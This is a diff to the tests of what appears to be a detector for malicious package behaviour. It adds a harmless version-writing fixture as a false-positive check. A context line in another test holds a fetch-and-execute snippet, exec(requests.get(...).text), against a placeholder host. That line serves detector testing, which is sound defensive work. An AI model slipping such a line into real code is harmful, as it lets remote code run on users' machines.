@@ -146,6 +146,24 @@ def test_a_program_of_the_package_that_starts_at_import_is_found(found: Found) -
     assert "shipped-program-at-import" not in {finding.rule for finding in found(asked)}
 
 
+VERSIONER = """
+import subprocess
+def run(commands, args):
+    for command in commands:
+        subprocess.Popen([command, *args])
+def write(place):
+    with open(place, 'w') as f:
+        f.write('version = 1.0  # made by a tool, please do not edit')
+PLACE = 'pkg/version.py'
+write(PLACE)
+run(['git.cmd', 'git.exe'], ['describe', PLACE])
+"""
+
+
+def test_a_tool_that_is_only_told_of_a_written_file_is_no_script_that_was_dropped(found: Found) -> None:
+    assert "script-dropped-and-run" not in {finding.rule for finding in found(VERSIONER)}
+
+
 def test_what_runs_by_itself_is_graded_higher_than_what_somebody_must_call(found: Found) -> None:
     body = "import requests\ndef f():\n    exec(requests.get('https://host.invalid').text)\n"
     called, running = found(body), found(body + "f()\n")
